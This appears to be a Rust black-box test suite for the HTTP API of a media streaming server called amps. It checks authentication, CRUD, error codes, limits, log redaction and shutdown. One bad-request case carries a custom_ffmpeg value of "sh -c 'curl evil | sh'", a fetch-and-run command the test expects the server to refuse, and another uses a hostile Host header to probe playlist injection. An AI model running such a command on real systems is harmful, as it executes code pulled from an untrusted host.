//! Black-box tests of the HTTP surface: the real binary, real HTTP over loopback.

mod common;

use amps::http::ROUTES;
use common::{basic_config, Server, TOKEN};
use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

fn body_for(method: &str, pattern: &str) -> Option<&'static str> {
    match (method, pattern) {
        ("POST", "/api/schedule") => Some(
            r#"{"id": 900, "name": "Later", "source": "http://h/x.ts", "ffmpeg_profile": "relay", "schedule": {"start": "2099-01-01T00:00:00Z"}}"#,
        ),
        ("PUT", "/api/schedule/{id}") => Some(
            r#"{"name": "Later", "source": "http://h/y.ts", "ffmpeg_profile": "relay", "schedule": {"start": "2099-01-01T00:00:00Z"}}"#,
        ),
        ("POST", "/api/tokens") => Some(r#"{"name": "phone", "max_streams": 1}"#),
        ("POST", "/api/playlists") => {
            Some(r#"{"name": "q", "url": "http://127.0.0.1:9/q.m3u", "ffmpeg_profile": "relay"}"#)
        }
        ("PUT", "/api/playlists/{name}") => Some(
            r#"{"name": "p", "url": "http://127.0.0.1:9/p.m3u", "ffmpeg_profile": "relay", "refresh_minutes": 0}"#,
        ),
        ("POST", _) => Some(
            r#"{"id": 50, "name": "New", "source": "http://h/x.ts", "ffmpeg_profile": "relay"}"#,
        ),
        ("PUT", "/api/streams/{id}/programs") => Some(r#"[{"title": "T"}]"#),
        ("PUT", "/api/playlists/{name}/channels/{id}") => Some(r#"{"name": "Mine"}"#),
        ("PUT", _) => {
            Some(r#"{"name": "Put", "source": "http://h/x.ts", "ffmpeg_profile": "relay"}"#)
        }
        ("PATCH", _) => Some(r#"{"name": "Patched"}"#),
        _ => None,
    }
}

#[test]
fn every_route_but_health_refuses_a_missing_or_wrong_token() {
    let s = Server::start(&basic_config());
    for r in ROUTES {
        let body = body_for(r.method, r.pattern);
        let ct = [("Content-Type", "application/json")];
        let anon = s.request(r.method, r.example, &ct, body);
        let wrong = s.request(
            r.method,
            r.example,
            &[ct[0], ("X-Amps-Token", "nope")],
            body,
        );
        if r.public() {
            if (r.method, r.pattern) == ("POST", "/login") {
                // The login form refuses a missing token with itself, as HTML.
                assert_eq!(anon.status, 401);
                assert!(anon
                    .body
                    .contains("<form method=\"post\" action=\"/login\">"));
            } else {
                // (POST /logout redirects to the login form.)
                assert_eq!(anon.status, 200, "{} {}", r.method, r.pattern);
            }
            continue;
        }
        for resp in [&anon, &wrong] {
            assert_eq!(
                resp.status, 401,
                "{} {} answered {}",
                r.method, r.pattern, resp.status
            );
            assert_eq!(
                resp.header("www-authenticate"),
                Some("Bearer realm=\"amps\"")
            );
            if r.method != "HEAD" {
                assert_eq!(resp.json()["error"], "unauthorized");
            }
            // A refused request's body is never read and the connection is closed after
            // the answer: the answer says so, so a keep-alive client does not reuse it.
            let close = resp.header("connection");
            if body.is_some_and(|b| !b.is_empty()) {
                assert_eq!(close, Some("close"), "{} {}", r.method, r.pattern);
            }
        }
    }
    // Unknown paths say nothing about what exists until the token is right.
    assert_eq!(s.request("GET", "/no/such/route", &[], None).status, 401);
    assert_eq!(s.get("/no/such/route").status, 404);
    assert_eq!(s.get("/no/such/route").json()["error"], "not_found");
}

#[test]
fn every_route_in_the_table_is_served_with_the_token() {
    // Channel 1 archives, so the catch-up routes have something to serve.
    let archive = tempfile::tempdir().unwrap();
    let config = basic_config()
        .replacen(
            "ffmpeg_profiles:",
            &format!(
                "engine:\n  archive_dir: {}\n  recordings_dir: {}\n  archive_segment_secs: 1\nffmpeg_profiles:",
                archive.path().join("archive").display(),
                archive.path().join("recordings").display()
            ),
            1,
        )
        .replacen(
            "channel_number: 2}",
            "channel_number: 2, catchup_hours: 1}",
            1,
        );
    // A provider playlist `p` (a local file) with one channel, for /api/playlists.
    let m3u = archive.path().join("p.m3u");
    std::fs::write(
        &m3u,
        "#EXTM3U\n#EXTINF:-1 tvg-id=\"p1\",P One\nhttp://127.0.0.1:9/p1.ts\n",
    )
    .unwrap();
    let config = format!(
        "{config}playlists:\n  - {{name: p, url: '{}', ffmpeg_profile: relay}}\n",
        m3u.display()
    );
    let s = Server::start(&config);
    // Media first (PUT changes stream 1's source), DELETE last.
    let mut routes: Vec<_> = ROUTES.iter().collect();
    routes.sort_by_key(|r| {
        (
            r.method == "DELETE",
            ![
                "/stream/",
                "/hls/",
                "/thumb/",
                "/hdhr/{token}/auto/",
                "/catchup/",
            ]
            .iter()
            .any(|p| r.pattern.starts_with(p)),
            r.method != "POST",
        )
    });
    let bearer = format!("Bearer {TOKEN}");
    let json = vec![
        ("Authorization", bearer.as_str()),
        ("Content-Type", "application/json"),
    ];
    let mut viewer = None;
    for r in routes {
        let mut path = r.example.to_owned();
        let mut body = body_for(r.method, r.pattern).map(str::to_owned);
        let headers = json.clone();
        match (r.method, r.pattern) {
            ("POST", "/login") => {
                // A form, answered with the session cookie and a redirect to the dashboard.
                let resp = ureq::AgentBuilder::new()
                    .redirects(0)
                    .build()
                    .post(&s.url(&path))
                    .set("Content-Type", "application/x-www-form-urlencoded")
                    .send_string(&format!("token={TOKEN}"))
                    .unwrap();
                assert_eq!(resp.status(), 303);
                assert!(resp
                    .header("set-cookie")
                    .unwrap()
                    .starts_with("amps_session="));
                continue;
            }
            (_, "/thumb/{id}.jpg") => {
                // A thumbnail needs a running channel.
                let mut v = common::Viewer::open(&s, 1);
                assert!(!v.read_for(Duration::from_millis(300)).is_empty());
                viewer = Some(v);
            }
            (_, p) if p.starts_with("/catchup/") => {
                // Two archived seconds, then a window of the first.
                let mut oldest = 0;
                assert!(common::eventually(Duration::from_secs(20), || {
                    let a = &s.get("/api/streams/1/status").json()["archive"];
                    oldest = a["oldest"]
                        .as_str()
                        .and_then(|t| chrono::DateTime::parse_from_rfc3339(t).ok())
                        .map_or(0, |t| t.timestamp());
                    a["segments"].as_u64() >= Some(2)
                }));
                let q = format!("start={}&end={}", oldest + 1, oldest + 2);
                path = match p {
                    "/catchup/{id}/{segment}" => {
                        let pl = s.get(&format!("/catchup/1/index.m3u8?{q}")).body;
                        let seg = pl.lines().find(|l| !l.starts_with('#')).unwrap();
                        format!("/catchup/1/{seg}")
                    }
                    "/catchup/{id}/index.m3u8" => format!("/catchup/1/index.m3u8?{q}"),
                    _ => format!("/catchup/1.ts?{q}"),
                };
            }
            ("POST", "/api/recordings") => {
                // Three seconds of channel 1 from now (from its archive).
                let t = |s: i64| (chrono::Utc::now() + chrono::Duration::seconds(s)).to_rfc3339();
                body = Some(format!(
                    r#"{{"stream_id": 1, "start": "{}", "end": "{}"}}"#,
                    t(0),
                    t(3)
                ));
            }
            (_, "/recordings/{id}.ts") => {
                assert!(
                    common::eventually(Duration::from_secs(20), || {
                        s.request("HEAD", &path, &headers, None).status == 200
                    }),
                    "recording 1 has a file"
                );
            }
            ("POST", "/playlists/{name}/refresh" | "/playlists/{name}/channels/{id}") => {
                // The dashboard's forms: answered with a redirect back to the page.
                let mut id = 0;
                assert!(common::eventually(Duration::from_secs(10), || {
                    id = s.get("/api/playlists/p/channels").json()[0]["id"]
                        .as_u64()
                        .unwrap_or(0);
                    id > 0
                }));
                let path = r.example.replace("2000000001", &id.to_string());
                let resp = ureq::AgentBuilder::new()
                    .redirects(0)
                    .build()
                    .post(&s.url(&path))
                    .set("Authorization", &bearer)
                    .set("Content-Type", "application/x-www-form-urlencoded")
                    .send_string("name=Mine")
                    .unwrap();
                assert_eq!(resp.status(), 303, "{path}");
                assert_eq!(resp.header("location"), Some("/playlists"));
                continue;
            }
            (_, "/api/playlists/{name}/channels/{id}") => {
                let mut id = 0;
                assert!(common::eventually(Duration::from_secs(10), || {
                    let v = s.get("/api/playlists/p/channels").json();
                    id = v[0]["id"].as_u64().unwrap_or(0);
                    id > 0
                }));
                path = format!("/api/playlists/p/channels/{id}");
            }
            (_, "/hls/{id}/{segment}") => {
                let pl = s.get("/hls/1/index.m3u8").body;
                let seg = pl.lines().find(|l| !l.starts_with('#')).unwrap();
                path = format!("/hls/1/{seg}");
            }
            _ => {}
        }
        let resp = s.request(r.method, &path, &headers, body.as_deref());
        assert!(
            (200..300).contains(&resp.status),
            "{} {} answered {}: {}",
            r.method,
            r.pattern,
            resp.status,
            resp.body
        );
    }
    drop(viewer);
    let m = s.get("/metrics").body;
    for r in ROUTES {
        assert!(
            m.contains(&format!("route=\"{}\",method=\"{}\"", r.pattern, r.method)),
            "metrics lack {} {}:\n{m}",
            r.method,
            r.pattern
        );
    }
}

#[test]
fn the_token_is_accepted_from_each_carrier() {
    let s = Server::start(&basic_config());
    let bearer = format!("Bearer {TOKEN}");
    assert_eq!(
        s.request("GET", "/api/streams", &[("Authorization", &bearer)], None)
            .status,
        200
    );
    assert_eq!(
        s.request("GET", "/api/streams", &[("X-Amps-Token", TOKEN)], None)
            .status,
        200
    );
    assert_eq!(
        s.request("GET", &format!("/api/streams?token={TOKEN}"), &[], None)
            .status,
        200
    );
    assert_eq!(
        s.request("GET", &format!("/api/streams?token={TOKEN}x"), &[], None)
            .status,
        401
    );
    let metrics = s.get("/metrics").body;
    assert!(
        metrics.contains("amps_auth_failures_total 1\n"),
        "{metrics}"
    );
}

#[test]
fn playlist_lists_channels_in_order_with_tokenised_absolute_urls() {
    let s = Server::start(&basic_config());
    let r = s.request(
        "GET",
        &format!("/playlist.m3u?token={TOKEN}"),
        &[("Host", "nas.local:5000")],
        None,
    );
    assert_eq!(r.status, 200);
    assert_eq!(r.header("content-type"), Some("audio/x-mpegurl"));
    let urls: Vec<&str> = r.body.lines().filter(|l| !l.starts_with('#')).collect();
    assert_eq!(
        urls,
        vec![
            format!("http://nas.local:5000/stream/2?token={TOKEN}"),
            format!("http://nas.local:5000/stream/1?token={TOKEN}"),
            format!("http://nas.local:5000/stream/3?token={TOKEN}"),
        ]
    );
    // A hostile Host header cannot inject into the playlist.
    let r = s.request(
        "GET",
        &format!("/playlist.m3u?token={TOKEN}"),
        &[("Host", "evil\"x")],
        None,
    );
    assert!(
        r.body.contains(&format!("http://{}/stream/2", s.addr)),
        "{}",
        r.body
    );
}

#[test]
fn stream_crud_round_trip_applies_at_once() {
    let s = Server::start(&basic_config());
    let created = s.send_json(
        "POST",
        "/api/streams",
        r#"{"id": 10, "name": "Ten", "source": "http://h/10.ts", "ffmpeg_profile": "relay", "channel_number": 10, "group": "G"}"#,
    );
    assert_eq!(created.status, 201, "{}", created.body);
    assert_eq!(created.header("location"), Some("/api/streams/10"));
    assert!(s.get("/playlist.m3u").body.contains(",Ten\n"));

    let dup = s.send_json(
        "POST",
        "/api/streams",
        r#"{"id": 10, "name": "X", "source": "http://h/s.ts", "ffmpeg_profile": "relay"}"#,
    );
    assert_eq!(dup.status, 409);
    assert_eq!(dup.json()["error"], "conflict");

    let got = s.get("/api/streams/10").json();
    assert_eq!(got["name"], "Ten");
    assert_eq!(got["channel_number"], 10);

    let put = s.send_json(
        "PUT",
        "/api/streams/10",
        r#"{"name": "Ten v2", "source": "http://h/10b.ts", "ffmpeg_profile": "x264"}"#,
    );
    assert_eq!(put.status, 200, "{}", put.body);
    assert_eq!(
        put.json()["group"],
        serde_json::Value::Null,
        "PUT replaces the whole stream"
    );

    let patched = s.send_json(
        "PATCH",
        "/api/streams/10",
        r#"{"group": "News", "channel_number": null}"#,
    );
    assert_eq!(patched.status, 200, "{}", patched.body);
    let p = patched.json();
    assert_eq!(
        (p["name"].as_str(), p["group"].as_str()),
        (Some("Ten v2"), Some("News"))
    );
    assert!(p.get("channel_number").is_none());

    let list = s.get("/api/streams").json();
    let ids: Vec<u64> = list
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["id"].as_u64().unwrap())
        .collect();
    assert_eq!(ids, vec![2, 1, 3, 10]);

    assert_eq!(
        s.request(
            "DELETE",
            "/api/streams/10",
            &[("X-Amps-Token", TOKEN)],
            None
        )
        .status,
        204
    );
    assert_eq!(s.get("/api/streams/10").status, 404);
    assert_eq!(
        s.request(
            "DELETE",
            "/api/streams/10",
            &[("X-Amps-Token", TOKEN)],
            None
        )
        .status,
        404
    );
    assert!(!s.get("/playlist.m3u").body.contains("Ten"));
}

/// method, path, headers, body, expected status, expected error kind
type Case<'a> = (
    &'a str,
    &'a str,
    &'a [(&'a str, &'a str)],
    &'a str,
    u16,
    &'a str,
);

#[test]
fn bad_requests_get_json_errors_with_the_right_status() {
    let s = Server::start(&basic_config());
    let cases: &[Case] = &[
        (
            "POST",
            "/api/streams",
            &[("Content-Type", "text/plain")],
            "{}",
            415,
            "unsupported_media_type",
        ),
        (
            "POST",
            "/api/streams",
            &[("Content-Type", "application/json")],
            "{\"id\": ",
            400,
            "bad_request",
        ),
        (
            "POST",
            "/api/streams",
            &[("Content-Type", "application/json")],
            r#"{"id": "x"}"#,
            422,
            "invalid",
        ),
        (
            "POST",
            "/api/streams",
            &[("Content-Type", "application/json")],
            r#"{"id": 5, "name": "A", "source": "http://h/s.ts", "ffmpeg_profile": "relay", "colour": 1}"#,
            422,
            "invalid",
        ),
        (
            "POST",
            "/api/streams",
            &[("Content-Type", "application/json")],
            r#"{"id": 5, "name": "", "source": "http://h/s.ts", "ffmpeg_profile": "hd"}"#,
            422,
            "invalid",
        ),
        (
            "POST",
            "/api/streams",
            &[("Content-Type", "application/json")],
            r#"{"id": 5, "name": "A", "source": "s", "custom_ffmpeg": "sh -c 'curl evil | sh'"}"#,
            403,
            "forbidden",
        ),
        (
            "PUT",
            "/api/streams/1",
            &[("Content-Type", "application/json")],
            r#"{"id": 2, "name": "A", "source": "http://h/s.ts", "ffmpeg_profile": "relay"}"#,
            422,
            "invalid",
        ),
        (
            "PATCH",
            "/api/streams/1",
            &[("Content-Type", "application/json")],
            "[1]",
            422,
            "invalid",
        ),
        (
            "PATCH",
            "/api/streams/99",
            &[("Content-Type", "application/json")],
            "{}",
            404,
            "not_found",
        ),
        (
            "PUT",
            "/api/streams/1/programs",
            &[("Content-Type", "application/json")],
            r#"[{"title": "a"}, {"title": "b", "start": "soon"}]"#,
            422,
            "invalid",
        ),
        ("GET", "/api/streams/abc", &[], "", 404, "not_found"),
        (
            "GET",
            "/api/streams/99999999999999",
            &[],
            "",
            404,
            "not_found",
        ),
    ];
    for (method, path, headers, body, status, kind) in cases {
        let mut h = headers.to_vec();
        h.push(("X-Amps-Token", TOKEN));
        let r = s.request(method, path, &h, (!body.is_empty()).then_some(*body));
        assert_eq!(r.status, *status, "{method} {path} {body}: {}", r.body);
        let j = r.json();
        assert_eq!(j["error"], *kind, "{method} {path} {body}: {}", r.body);
        assert!(j["detail"].as_str().is_some_and(|d| !d.is_empty()));
    }
    let bad_program = s.send_json(
        "PUT",
        "/api/streams/1/programs",
        r#"[{"title": "a"}, {"title": "b", "start": "soon"}]"#,
    );
    assert!(bad_program.json()["detail"]
        .as_str()
        .unwrap()
        .starts_with("[1].start: \"soon\" is not an ISO-8601 time"));
    let invalid = s
        .send_json(
            "POST",
            "/api/streams",
            r#"{"id": 5, "name": "", "source": "http://h/s.ts", "ffmpeg_profile": "hd"}"#,
        )
        .json();
    assert_eq!(
        invalid["errors"],
        serde_json::json!([
            "name: must not be empty",
            "ffmpeg_profile: unknown profile \"hd\" (known: light, relay, x264)"
        ])
    );
    // Nothing above changed anything.
    assert_eq!(s.get("/api/streams").json().as_array().unwrap().len(), 3);
    assert_eq!(s.get("/api/streams/1").json()["name"], "One");
}

#[test]
fn bodies_over_the_limit_are_refused_with_413() {
    let s =
        Server::start(&basic_config().replace("server:\n", "server:\n  max_body_bytes: 2048\n"));
    let big = format!(r#"[{{"title": "{}"}}]"#, "x".repeat(4096));
    let r = s.send_json("PUT", "/api/streams/1/programs", &big);
    assert_eq!(r.status, 413);
    assert_eq!(r.json()["error"], "payload_too_large");
    assert_eq!(
        s.send_json("PUT", "/api/streams/1/programs", r#"[{"title": "fits"}]"#)
            .status,
        200
    );
}

#[test]
fn programs_are_replaced_and_shown_as_next_in_the_playlist() {
    let s = Server::start(&basic_config());
    let r = s.send_json(
        "PUT",
        "/api/streams/1/programs",
        r#"[{"title": "Long gone", "start": "2001-01-01T00:00:00Z"}, {"title": "Tonight", "start": "2999-01-01T20:00:00+01:00", "description": "Late, late show"}]"#,
    );
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(
        s.get("/api/streams/1/programs")
            .json()
            .as_array()
            .unwrap()
            .len(),
        2
    );
    let pl = s.get("/playlist.m3u").body;
    assert!(
        pl.contains("#EXTREM:AMP-NEXT title=\"Tonight\" start=\"2999-01-01T20:00:00+01:00\" description=\"Late, late show\"\n"),
        "{pl}"
    );
    assert!(!pl.contains("Long gone"));
    assert_eq!(s.get("/api/streams/77/programs").status, 404);
}

#[test]
fn tokens_never_reach_the_logs() {
    let s = Server::start_with(&basic_config(), &[], &["--debug"]);
    let secret_in_query = format!("/playlist.m3u?token={TOKEN}&x=1");
    assert_eq!(s.request("GET", &secret_in_query, &[], None).status, 200);
    assert_eq!(
        s.request("GET", "/api/streams?token=wrong-but-secret", &[], None)
            .status,
        401
    );
    assert_eq!(
        s.request(
            "GET",
            "/api/streams",
            &[("Authorization", &format!("Bearer {TOKEN}"))],
            None
        )
        .status,
        200
    );
    std::thread::sleep(Duration::from_millis(200));
    let logs = s.logs();
    assert!(
        logs.contains("/playlist.m3u"),
        "the access log should show requests: {logs}"
    );
    assert!(!logs.contains(TOKEN), "token leaked into logs:\n{logs}");
    assert!(
        !logs.contains("wrong-but-secret"),
        "token leaked into logs:\n{logs}"
    );
}

#[test]
fn slow_header_senders_are_cut_off() {
    let s =
        Server::start(&basic_config().replace("server:\n", "server:\n  header_timeout_secs: 1\n"));
    let mut c = TcpStream::connect(&s.addr).unwrap();
    c.write_all(b"GET /health HTTP/1.1\r\nHost: x\r\n").unwrap();
    c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let t0 = Instant::now();
    let mut buf = Vec::new();
    let _ = c.read_to_end(&mut buf);
    let waited = t0.elapsed();
    assert!(
        waited < Duration::from_secs(4),
        "connection held for {waited:?}"
    );
    assert!(
        waited >= Duration::from_millis(900),
        "closed too early: {waited:?}"
    );
    // The server still serves others.
    assert_eq!(s.request("GET", "/health", &[], None).status, 200);
}

#[test]
fn connections_over_the_limit_get_503_json() {
    let s = Server::start(&basic_config().replace("server:\n", "server:\n  max_connections: 2\n"));
    let hold: Vec<TcpStream> = (0..2)
        .map(|_| TcpStream::connect(&s.addr).unwrap())
        .collect();
    std::thread::sleep(Duration::from_millis(200));
    let mut c = TcpStream::connect(&s.addr).unwrap();
    c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    c.write_all(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n")
        .unwrap();
    let mut buf = String::new();
    let _ = c.read_to_string(&mut buf);
    assert!(buf.starts_with("HTTP/1.1 503"), "{buf}");
    assert!(buf.contains(r#""error":"unavailable""#), "{buf}");
    drop(hold);
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(s.request("GET", "/health", &[], None).status, 200);
}

#[test]
fn sigterm_stops_the_server_promptly() {
    let mut s = Server::start(&basic_config());
    assert_eq!(s.request("GET", "/health", &[], None).status, 200);
    let status = s
        .terminate(Duration::from_secs(5))
        .expect("amps did not exit within 5 s of SIGTERM");
    assert!(status.success(), "{status:?}");
}
